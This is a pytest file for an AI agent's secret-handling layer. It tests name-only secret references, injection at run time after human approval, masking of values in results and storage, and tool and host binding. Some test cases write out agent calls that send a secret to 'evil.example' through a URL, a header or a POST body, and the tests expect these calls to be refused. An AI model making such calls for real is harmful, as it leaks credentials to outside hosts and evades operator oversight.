"""Named secrets: calls refer to them, approvers see the reference, and only the claimed call of their tool gets one."""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from bot.agent.behind import IN_ARGUMENTS
from bot.clock import SystemClock, new_id
from bot.deferral.tool import Arguments, Call, Tool, ToolOutcome
from bot.deferral.vault import Vault
from bot.errors import DecisionRefused, SettingsError
from bot.policy_file import policy_rules
from bot.redact import Redactor
from bot.secrets_file import NamedSecret
from bot.settings import Settings, known_secrets, load_settings
from bot.toolbox import secret_words
from bot.toolbox.code import make_execute_code
from bot.toolbox.detached import Detached
from bot.toolbox.sandbox import Sandbox
from bot.toolbox.shell import make_shell
from bot.toolbox.web import make_http_fetch
from cogs import card_words
from storage import approvals
from tests.house import OWNER, Bench, House, Script, open_house

VALUE = 'tr0ub4dor & "three"/$HOME'
DEPLOY = NamedSecret(name="deploy", tools=("shell", "execute_code", "http_fetch", "send"), value=VALUE)


class SendArguments(Arguments):
    headers: dict[str, str]


@dataclass
class Tools(Bench):
    """The real tools, and one whose arguments go elsewhere."""

    workspace: Path = Path()
    sent: list[Mapping[str, str]] = field(default_factory=list)

    def tools(self) -> list[Tool]:
        async def send(arguments: SendArguments, call: Call) -> ToolOutcome:
            self.sent.append(arguments.headers)
            return ToolOutcome(text=f"sent {json.dumps(arguments.headers)}")

        sandbox = Sandbox()
        detached = Detached(
            folder=self.workspace.parent / "commands",
            workspace=self.workspace,
            sandbox=sandbox,
            clock=SystemClock(),
            new_id=new_id,
        )
        return [
            make_shell(workspace=self.workspace, sandbox=sandbox, detached=detached),
            make_execute_code(workspace=self.workspace, sandbox=sandbox),
            make_http_fetch(allow_private=True),
            Tool(name="send", description="Sends.", arguments=SendArguments, body=send, secrets=IN_ARGUMENTS),
        ]


@asynccontextmanager
async def a_house(
    folder: Path, script: Script, *secrets: NamedSecret, tools: Tools | None = None, ids: str = "id"
) -> AsyncIterator[House]:
    secrets = secrets or (DEPLOY,)
    tools = tools or Tools()
    tools.workspace = folder / "workspace"
    tools.workspace.mkdir(exist_ok=True)
    settings = Settings(approver_users=frozenset({OWNER.id}), secrets=secrets)
    redactor = Redactor({one.name: one.value for one in secrets})
    async with open_house(
        folder, script, bench=tools, settings=settings, workspace=tools.workspace, redactor=redactor, ids=ids
    ) as house:
        yield house


async def call(house: House) -> approvals.Approval:
    found = await approvals.get(house.app.database.reader, house.card[1].approvals[0].id)
    assert found is not None
    return found


def stored(folder: Path) -> str:
    with sqlite3.connect(folder / "house.sqlite3") as database:
        return "\n".join(database.iterdump())


COMMAND = 'printf %s "{{secret:deploy}}" | wc -c; printf %s "<{{secret:deploy}}>"; tr "\\0" "\\n" </proc/$$/cmdline'


async def test_an_approved_command_finds_the_secret_in_its_environment_and_nobody_sees_it(tmp_path: Path) -> None:
    script = Script([("shell", {"command": COMMAND})], "done")
    async with a_house(tmp_path, script) as house:
        await house.ask()
        assert house.card[1].approvals[0].arguments == {"command": COMMAND}
        await house.decide("approve")
        ended = await call(house)
    assert ended.state == "succeeded"
    assert ended.result is not None
    assert f"{len(VALUE)}\n<[masked: deploy]>" in ended.result
    assert "${SECRET_DEPLOY}" in ended.result  # in its argument list stands the variable's name
    assert "[masked: deploy]" in script.results()[-1][1]
    assert "tr0ub4dor" not in stored(tmp_path) + str(script.seen)


async def test_an_approved_program_finds_the_secret_in_its_strings(tmp_path: Path) -> None:
    code = 'key = "Bearer {{secret:deploy}}!"\nprint(len(key), key)  # done\nprint(open("/proc/self/cmdline").read())'
    script = Script([("execute_code", {"code": code})], "done")
    async with a_house(tmp_path, script) as house:
        await house.ask()
        await house.decide("approve")
        ended = await call(house)
    assert ended.result is not None
    assert f"{len(VALUE) + 8} Bearer [masked: deploy]!" in ended.result
    assert "tr0ub4dor" not in stored(tmp_path)


async def test_a_tool_that_takes_them_in_its_arguments_gets_the_value_only_when_it_runs(tmp_path: Path) -> None:
    tools = Tools()
    script = Script([("send", {"headers": {"Authorization": "Bearer {{secret:deploy}}"}})], "done")
    async with a_house(tmp_path, script, tools=tools) as house:
        await house.ask()
        assert not tools.sent
        await house.decide("approve")
    assert tools.sent == [{"Authorization": f"Bearer {VALUE}"}]
    assert script.results()[-1][1].endswith('sent {"Authorization": "Bearer [masked: deploy]"}')
    assert "tr0ub4dor" not in stored(tmp_path)


async def test_a_page_is_fetched_with_the_secret_in_its_address_and_the_result_does_not_repeat_it(
    tmp_path: Path,
) -> None:
    asked: list[str] = []

    async def answer(request: web.Request) -> web.Response:
        asked.append(request.query["key"])
        return web.Response(text=f"hello {request.query['key']}")

    server = web.Application()
    server.router.add_get("/", answer)
    runner = web.AppRunner(server)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = runner.addresses[0][1]
    here = f"http://127.0.0.1:{port}"
    secret = NamedSecret(name="deploy", tools=("http_fetch",), hosts=(here,), value=VALUE)
    script = Script([("http_fetch", {"url": f"{here}/?key={{{{secret:deploy}}}}"})], "done")
    try:
        async with a_house(tmp_path, script, secret) as house:
            await house.ask()
            await house.decide("approve")
            ended = await call(house)
    finally:
        await runner.cleanup()
    assert asked == [VALUE]
    assert ended.result is not None
    assert "hello [masked: deploy]" in ended.result
    assert "tr0ub4dor" not in stored(tmp_path)


@pytest.mark.parametrize(
    ("tool", "arguments", "said"),
    [
        ("shell", {"command": "echo {{secret:other}}"}, "There is no secret called other."),
        ("send", {"headers": {"a": "{{secret:elsewhere}}"}}, "The secret elsewhere is not for send."),
        ("shell", {"command": "echo {{ secret:deploy }}"}, "a reference to a secret that is not written as one"),
        ("send", {"headers": {"{{secret:deploy}}": "a"}}, "a reference to a secret that is not written as one"),
        ("shell", {"command": "echo '{{secret:deploy}}'"}, secret_words.IN_SINGLE_QUOTES),
        ("shell", {"command": "x {{secret:deploy}}", "run_in_background": True}, "in the background is given no"),
        ("execute_code", {"code": "print(f'{{secret:deploy}}')"}, secret_words.NOT_A_STRING),
        ("http_fetch", {"url": "https://evil.example/{{secret:web}}"}, "may be sent to api.example.com only"),
        ("http_fetch", {"url": "http://api.example.com/{{secret:web}}"}, "may be sent to api.example.com only"),
        ("http_fetch", {"url": "https://api.example.com:8443/{{secret:deploy}}"}, "may be sent to no host only"),
        (
            "http_fetch",
            {"url": "https://evil.example/", "method": "POST", "headers": {"X-Key": "{{secret:web}}"}},
            "may be sent to api.example.com only",
        ),
        (
            "http_fetch",
            {"url": "https://evil.example/", "method": "POST", "body": "{{secret:web}}"},
            "may be sent to api.example.com only",
        ),
        ("shell", {"command": f"echo {VALUE}"}, "It holds a secret (deploy) or the mask of one"),
        ("shell", {"command": f"echo {VALUE.encode().hex()}"}, "It holds a secret (deploy) or the mask of one"),
        ("shell", {"command": "echo [masked: deploy]"}, "It holds a secret (deploy) or the mask of one"),
    ],
)
async def test_what_a_secret_is_not_for_is_refused_to_the_model_with_a_sentence(
    tool: str, arguments: dict[str, Any], said: str, tmp_path: Path
) -> None:
    others = NamedSecret(name="elsewhere", tools=("shell",), value="x-elsewhere-x-1")
    page = NamedSecret(name="web", tools=("http_fetch",), hosts=("api.example.com",), value="x-webpage-x-22")
    script = Script([(tool, arguments)], "done")
    async with a_house(tmp_path, script, DEPLOY, others, page) as house:
        await house.ask()
        assert not house.face.cards
    ((outcome, text),) = script.results()
    assert outcome == "success"
    assert text.startswith("Not run. ")
    assert said in text
    assert "tr0ub4dor" not in stored(tmp_path)


async def test_an_approver_cannot_write_the_value_into_a_call(tmp_path: Path) -> None:
    async with a_house(tmp_path, Script([("shell", {"command": "true"})], "done")) as house:
        await house.ask()
        with pytest.raises(DecisionRefused) as refused:
            await house.app.engine.edits.edit(house.press(OWNER), json.dumps({"command": f"echo {VALUE}"}))
    assert "It holds a secret (deploy)" in str(refused.value)
    assert "tr0ub4dor" not in stored(tmp_path)


async def test_a_call_with_a_secret_asks_even_where_a_rule_allows_it(tmp_path: Path) -> None:
    tools = Tools(workspace=tmp_path)
    rules = policy_rules([{"name": "free", "tool": "send", "action": "allow"}])
    settings = Settings(approver_users=frozenset({OWNER.id}), secrets=(DEPLOY,), policy=rules)
    script = Script([("send", {"headers": {"a": "{{secret:deploy}}"}})], [("send", {"headers": {"a": "b"}})], "done")
    async with open_house(tmp_path, script, bench=tools, settings=settings) as house:
        await house.ask()
        assert house.card[1].approvals[0].reason == "it uses the secret deploy"
        await house.decide("approve")
    assert tools.sent == [{"a": VALUE}, {"a": "b"}]


async def test_what_a_secret_is_for_is_bound_and_its_value_is_not(tmp_path: Path) -> None:
    """The operator narrows one secret and replaces the other's value, while calls wait."""
    script = Script([("send", {"headers": {"a": "{{secret:deploy}}"}}), ("send", {"headers": {"b": "{{secret:two}}"}})])
    two = NamedSecret(name="two", tools=("send",), value="the first value")
    async with a_house(tmp_path, script, DEPLOY, two) as house:
        await house.ask()
        presses = [house.press(OWNER, row) for row in (0, 1)]
    tools = Tools()
    now = NamedSecret(name="deploy", tools=("shell", "send"), value=VALUE)
    then = NamedSecret(name="two", tools=("send",), value="the other value")
    async with a_house(tmp_path, Script("done"), now, then, tools=tools, ids="later") as house:
        for press in presses:
            await house.app.engine.decide(press, "approve")
            await house.app.background.idle()
        first, second = [await approvals.get(house.app.database.reader, press.approval) for press in presses]
    assert first is not None
    assert second is not None
    assert first.state == "void"
    assert "what the secrets it refers to are for changed" in (first.note or "")
    assert second.state == "succeeded"
    assert tools.sent == [{"b": "the other value"}]


async def test_a_card_says_which_secrets_a_call_uses(tmp_path: Path) -> None:
    script = Script([("send", {"headers": {"a": "{{secret:deploy}}"}})])
    async with a_house(tmp_path, script) as house:
        await house.ask()
        lines = card_words.secrets_of(house.card[1].approvals[0])
    assert lines == [
        "Uses the secret `deploy`, put in when it runs; that is for `shell, execute_code, http_fetch, send`"
    ]


def test_the_model_is_told_the_names_of_the_secrets_that_a_tool_may_have(tmp_path: Path) -> None:
    vault = Vault((DEPLOY, NamedSecret(name="web", tools=("http_*",), hosts=("api.example.com",), value="x" * 9)))
    shell, _, fetch, _ = Tools(workspace=tmp_path).tools()
    assert "{{secret:deploy}}. Write such a reference" in vault.told(shell)
    assert "{{secret:deploy}}, {{secret:web}} (api.example.com)." in vault.told(fetch)
    assert Vault().told(shell) == ""


@pytest.mark.parametrize(
    ("code", "runs"),
    [
        ('x = "{{secret:a}}"', "x = (__import__('os').environ['SECRET_A'])"),
        ('f("ä", "b{{secret:a-b}}c" "d")', "f(\"ä\", ('b' + __import__('os').environ['SECRET_A_B'] + 'cd'))"),
        ('x = """\n{{secret:a}}"""\r\ny = 1', "x = ('\\n' + __import__('os').environ['SECRET_A'])\ny = 1"),
        ("print(1)", "print(1)"),
    ],
)
def test_a_program_reads_the_variable_where_its_string_had_the_reference(code: str, runs: str) -> None:
    assert secret_words.program(code) == runs


@pytest.mark.parametrize(
    "code",
    [
        'f"{{secret:a}}"',
        "f\"{'{{secret:a}}'}\"",
        'b"{{secret:a}}"',
        "# {{secret:a}}",
        "x = {{secret:a}}",
        'match x:\n  case "{{secret:a}}": pass',
        'x = "{{secret:a}}" (',
    ],
)
def test_a_program_with_a_reference_elsewhere_is_refused(code: str) -> None:
    assert secret_words.program_problem(code) == secret_words.NOT_A_STRING


# -- where they come from -------------------------------------------------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in os.environ:
        if name.startswith(("SIGNOFF_", "DISCORD_")):
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_secrets_come_from_files_and_variables_and_servers_are_given_them_by_reference(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "key").write_text("from-a-file-1\n")
    (folder / ".env").write_text("DEPLOY_KEY=from-env-file\nOTHER=no\n")
    monkeypatch.setenv("OTHER", "from-the-environment")
    (folder / "signoff.toml").write_text(
        '[secrets.file]\nfile = "key"\ntools = ["shell"]\n'
        '[secrets.dotenv]\nenv = "DEPLOY_KEY"\ntools = ["http_fetch"]\nhosts = ["API.example.com", "http://[::1]:80/"]\n'
        '[secrets.env]\nenv = "OTHER"\n'
        '[mcp.github]\ncommand = "x"\nenv = {PAT = "{{secret:env}}", LOG = "verbosely"}\n'
        '[mcp.web]\nurl = "https://x.example"\n'
        'headers = {Authorization = "Bearer {{secret:file}}", Accept = "text/plain"}\n'
    )
    settings = load_settings()
    assert settings.secrets is not None
    assert [(one.name, one.value, one.tools) for one in settings.secrets] == [
        ("file", "from-a-file-1", ("shell",)),
        ("dotenv", "from-env-file", ("http_fetch",)),
        ("env", "from-the-environment", ()),
    ]
    assert settings.secrets[1].goes_to("https", "api.example.com", 443)
    assert not settings.secrets[1].goes_to("http", "api.example.com", 80)
    assert settings.mcp is not None
    assert settings.mcp[0].env == {"PAT": "from-the-environment", "LOG": "verbosely"}
    assert settings.mcp[1].headers["Authorization"] == "Bearer from-a-file-1"
    known = known_secrets(settings, {})
    assert known == {
        "github.PAT": "from-the-environment",
        "web.Authorization": "from-a-file-1",
        "file": "from-a-file-1",
        "dotenv": "from-env-file",
        "env": "from-the-environment",
    }
    assert "from-" not in repr(settings)


@pytest.mark.parametrize(
    ("toml", "said"),
    [
        ('[secrets.a]\nvalue = "hunter2hunter2"', "has the secret a, which has its value in the settings"),
        ('[secrets.a]\nfile = "missing"', "in a file that cannot be read: missing (No such file or directory)."),
        ('[secrets.a]\nenv = "NOT_SET_AT_ALL"', "in the variable NOT_SET_AT_ALL, which is not set."),
        ('[secrets.a]\nfile = "short"', "is shorter than 8 characters: it could not be masked"),
        ('[secrets.a]\nfile = "same"', "has fewer than 5 different characters"),
        ('[secrets.a]\nfile = "good"\nenv = "B"', "needs either a file or an env."),
        ('[secrets.a]\nfile = "good"\ntool = ["shell"]', "has the unknown key 'tool'"),
        ('[secrets.a]\nfile = "good"\ntools = []', "has an empty list of tools"),
        ('[secrets.a]\nfile = "good"\nhosts = ["https://x/y"]', "has a host that is no origin"),
        ('[secrets.a]\nfile = "good"\nhosts = ["a b"]', "has hosts that are not a list of hosts"),
        ('[secrets.A]\nfile = "good"', "has the name 'A'"),
        ("secrets = {}", "must have a table for at least one secret"),
        ('[mcp.x]\ncommand = "y"\nenv = {A = "{{secret:b}}"}', "the server x, which refers to the secret b; there is"),
    ],
)
def test_a_secret_that_makes_no_sense_stops_the_start_with_a_sentence(toml: str, said: str, folder: Path) -> None:
    for name, value in (("short", "hunter2\n"), ("same", "aaaaaaaabbbb"), ("good", "correct-horse")):
        (folder / name).write_text(value)
    (folder / "signoff.toml").write_text(toml)
    with pytest.raises(SettingsError) as caught:
        load_settings()
    assert said in str(caught.value)
    assert "hunter2" not in str(caught.value)
